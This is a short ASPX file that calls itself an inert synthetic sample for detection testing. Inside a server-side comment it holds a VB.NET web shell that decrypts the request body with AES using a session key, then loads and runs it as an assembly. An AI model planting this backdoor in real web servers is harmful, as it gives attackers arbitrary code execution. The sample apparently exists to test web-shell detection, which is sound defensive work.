<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="VB"%><% Session.Add("k", "0a1b2c3d4e5f6a7b") : Dim k() As Byte = Encoding.Default.GetBytes(Session(0) & "") : Dim c() As Byte = Request.BinaryRead(Request.ContentLength) : System.Reflection.Assembly.Load(New RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("Q").Equals(Me) %>
--%>
